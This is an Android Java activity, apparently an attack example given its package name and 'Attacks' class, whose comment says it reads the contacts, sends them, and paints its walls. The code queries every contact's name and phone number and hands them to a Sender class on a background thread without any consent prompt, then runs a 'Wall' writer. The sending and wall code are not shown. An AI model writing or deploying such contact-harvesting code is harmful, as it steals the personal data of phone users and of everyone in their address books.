package org.graffiti.example;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.util.Log;
import android.widget.Button;
import org.json.JSONArray;

/** Reads the contacts, sends them, and paints its walls. */
public class WallActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Button button = new Button(this);
        button.setText(Attacks.together());
        button.setContentDescription(Attacks.IMAGE);
        setTitle(Attacks.IMAGE);
        setContentView(button);
        JSONArray contacts = contacts();
        Thread sender = new Thread(() -> Sender.send(contacts), Attacks.IMAGE);
        sender.start();
        try {
            new Wall(this).write();
        } catch (RuntimeException refused) {
            Log.e(Attacks.SCRIPT, Attacks.together(), refused);
        }
    }

    private JSONArray contacts() {
        JSONArray rows = new JSONArray();
        String[] columns = {Phone.DISPLAY_NAME, Phone.NUMBER};
        try (Cursor cursor =
                getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null)) {
            while (cursor != null && cursor.moveToNext()) {
                rows.put(cursor.getString(0) + " " + cursor.getString(1));
            }
        }
        return rows;
    }
}
